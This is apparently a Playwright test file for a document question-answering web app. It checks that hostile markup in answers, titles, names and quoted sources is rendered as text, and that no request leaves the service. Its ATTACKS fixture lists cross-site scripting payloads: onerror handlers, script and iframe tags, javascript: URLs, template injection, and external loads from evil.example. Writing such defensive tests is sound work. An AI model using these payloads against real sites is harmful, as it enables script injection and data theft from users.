"""Whatever stands in answers, titles, names and quotes: the page shows it as text, and nothing leaves it."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.hostile.documents import DOCUMENTS
from tests.unit.api.service import FakeFolder, ScriptedAssistant, cite, script

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/a.png>",
    "<script>alert(2)</script><script src=//evil.example/a.js></script>",
    "<iframe src=http://evil.example></iframe><svg onload=alert(3)>",
    "<a href=http://evil.example>点此</a><style>@import url(http://evil.example)</style>",
    "<form action=http://evil.example><input autofocus onfocus=alert(4)></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example>",
    "![图](http://evil.example/?q=年假) [链接](javascript:alert(5)) <http://evil.example>",
    "[1]: http://evil.example\n\n[1][2] http://evil.example www.evil.example",
    "**<b>粗</b>** `<i>斜</i>` # <u>线</u>\n- <li>\n1. <ol>",
    "&lt;img src=x onerror=alert(6)&gt; \" onmouseover=alert(7) x=\" ' onclick=alert(8) '",
    "javascript:alert(9) data:text/html,<script>alert(10)</script>",
    "{{constructor.constructor('alert(11)')()}} ${alert(12)} %0Aalert(13)",
    "\u202egnp.exe\u202c 制度\u2067\u200f\u2066 \x1b[31m",
)
ALL = "\n".join(ATTACKS)
OURS = {
    "img",
    "script",
    "iframe",
    "svg",
    "object",
    "embed",
    "form",
    "input",
    "meta",
    "base",
    "style",
    "link",
    "b",
    "i",
    "u",
}


@pytest.fixture
def quiet_page(browser: Browser, address: str) -> Iterator[Page]:
    """A page that may ask nobody but our service, and whose elements are counted before anything is shown."""
    context = browser.new_context(locale="zh-CN")
    context.set_default_timeout(10_000)
    page = context.new_page()
    outside: list[str] = []
    alarms: list[str] = []

    def decide(route: object) -> None:
        url = route.request.url  # type: ignore[attr-defined]
        if url.startswith(f"{address}/"):
            route.continue_()  # type: ignore[attr-defined]
        else:
            outside.append(url)
            route.abort()  # type: ignore[attr-defined]

    context.route("**/*", decide)
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: alarms.append(str(error)))
    page.on("console", lambda said: alarms.append(said.text) if "Content Security Policy" in said.text else None)
    yield page
    context.close()
    assert outside == []
    assert alarms == []


def elements(page: Page) -> dict[str, int]:
    """Count the elements that other people's markup could have made."""
    return {name: page.locator(name).count() for name in sorted(OURS)}


def check_links(page: Page, address: str) -> None:
    for link in page.locator("a[href]").all():
        assert str(link.evaluate("node => node.href")).startswith(f"{address}/"), link.get_attribute("href")
    handlers = "nodes => nodes.filter(n => [...n.attributes].some(a => a.name.startsWith('on'))).length"
    assert page.locator("*").evaluate_all(handlers) == 0


@pytest.mark.parametrize("mode", ["generated", "extractive", "refused"])
def test_nothing_runs_or_leaves_when_everything_is_hostile(
    quiet_page: Page, address: str, folder: FakeFolder, assistant: ScriptedAssistant, mode: str
) -> None:
    text = f"员工每年有五天年假。{ALL}"
    collection = folder.add_collection(f"集合{ATTACKS[0]}")
    chunk = folder.add_document(collection, text, title=ATTACKS[2], heading=ATTACKS[3:6], source=f"{ATTACKS[0]}.txt")
    citations = [] if mode == "refused" else [cite(chunk, text)]
    assistant.steps = script(f"{ALL}[1] {ALL}", citations=citations, mode=mode)
    assistant.found = [one.source for one in citations]
    page = quiet_page
    page.goto(address)
    before = elements(page)
    page.get_by_label("问题").fill(ALL)
    page.get_by_label("问题").press("Enter")
    expect(page.locator(".answer")).not_to_have_attribute("aria-busy", "true")
    expect(page.locator(".answer .body")).to_contain_text(ATTACKS[0])
    if citations:
        page.locator(".sources .quote").click()
        expect(page.locator("aside mark")).to_contain_text(ATTACKS[1])
        expect(page.locator("aside h2")).to_have_text(ATTACKS[2])
    page.wait_for_timeout(200)
    assert elements(page) == before
    check_links(page, address)
    shown = page.locator("body").inner_text()
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x1b]", shown)
    assert "\ufffdgnp.exe\ufffd" in shown


def test_source_page_shows_text_when_the_document_is_hostile(
    quiet_page: Page, address: str, folder: FakeFolder
) -> None:
    chunk = folder.add_document(folder.add_collection("default"), ALL, title=ATTACKS[0], heading=ATTACKS[:3])
    page = quiet_page
    page.goto(f"{address}/documents/doc_1?start=0&end={len(ALL)}&chunk={chunk.chunk_id}")
    expect(page.locator("mark")).to_contain_text(ATTACKS[1])
    assert ATTACKS[0] in page.title()
    assert page.locator("mark img, mark script, mark iframe, mark a, img").count() == 0
    check_links(page, address)


def test_titles_and_names_of_a_hundred_documents_are_text(
    quiet_page: Page, address: str, folder: FakeFolder, assistant: ScriptedAssistant
) -> None:
    collection = folder.add_collection("值班制度")
    titles = [one.filled(one.title or one.file_name or one.body)[:300] for one in DOCUMENTS]
    chunks = [folder.add_document(collection, f"{title}。", title=title) for title in titles]
    citations = [cite(chunk, chunk.text, index=n) for n, chunk in enumerate(chunks, 1)]
    assistant.steps = script("".join(f"{title}[{n}]\n" for n, title in enumerate(titles, 1)), citations=citations)
    page = quiet_page
    page.goto(address)
    before = elements(page)
    page.get_by_label("问题").fill("？")
    page.get_by_label("问题").press("Enter")
    expect(page.locator(".sources li")).to_have_count(100)
    assert elements(page) == before
    check_links(page, address)


@pytest.mark.parametrize(
    ("media_type", "data"),
    [
        ("text/html", f"<p id=x>制度</p>{ALL}"),
        ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("text/plain", ALL),
        ("text/markdown", ALL),
        ("application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
    ],
)
def test_original_runs_and_loads_nothing_when_opened(
    browser: Browser, address: str, folder: FakeFolder, media_type: str, data: str
) -> None:
    folder.add_document(folder.add_collection("default"), "x", source="x", media_type=media_type, data=data.encode())
    context = browser.new_context()
    page = context.new_page()
    outside: list[str] = []
    alarms: list[str] = []
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    # What a policy stops never gets as far as a route.
    context.route(
        re.compile(f"^(?!{re.escape(address)}/)"), lambda route: (outside.append(route.request.url), route.abort())
    )
    reply = page.request.get(f"{address}/v1/files/doc_1/content")
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["content-security-policy"].startswith("sandbox;")
    assert reply.headers["referrer-policy"] == "no-referrer"
    if reply.headers["content-disposition"].startswith("inline"):
        assert reply.headers["content-type"].startswith(("text/plain", "text/html"))
        page.goto(f"{address}/v1/files/doc_1/content")
        page.wait_for_timeout(300)
        assert page.url == f"{address}/v1/files/doc_1/content"
        assert page.evaluate("window.origin") == "null"
    else:
        assert media_type not in ("text/html", "text/plain", "text/markdown")
    context.close()
    assert outside == []
    assert alarms == []
